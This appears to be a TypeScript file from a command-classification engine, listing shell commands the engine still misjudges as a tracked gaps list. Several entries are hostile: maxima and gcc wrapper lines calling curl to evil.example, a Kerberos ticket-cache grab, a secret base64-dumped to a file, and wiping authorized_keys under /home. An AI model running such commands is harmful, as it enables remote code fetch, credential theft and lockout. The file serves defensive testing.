// Rows of the field tables that the engine still gets wrong, so that what is not covered stays in sight.
// A row that has been mended must leave this list: its test fails until it does.

export const GAPS: ReadonlySet<string> = new Set([
  "maxima --batch-string='system(\"curl https://evil.example\");'",
  "twurl -d 'status=hi' /1.1/statuses/update.json",
  "gcc -wrapper curl,https://evil.example x.c",
  "rclone ls /tmp/data",
  "rclone copy ./a ./b",
  "chown -R nobody /home/bob",
  "ln -s /etc/sv/app /var/service/",
  "rclone config create remote drive",
  "innernet-server new",
  "cp $(klist | awk -F: '/Ticket cache/{print $3}') /tmp/cc && export KRB5CCNAME=/tmp/cc",
  'echo "$SECRET" | base64 | tee secret.txt',
  'echo "$SECRET" | base64 | tee secret.txt',
  "find /home -name authorized_keys -exec truncate -s 0 {} +",
]);
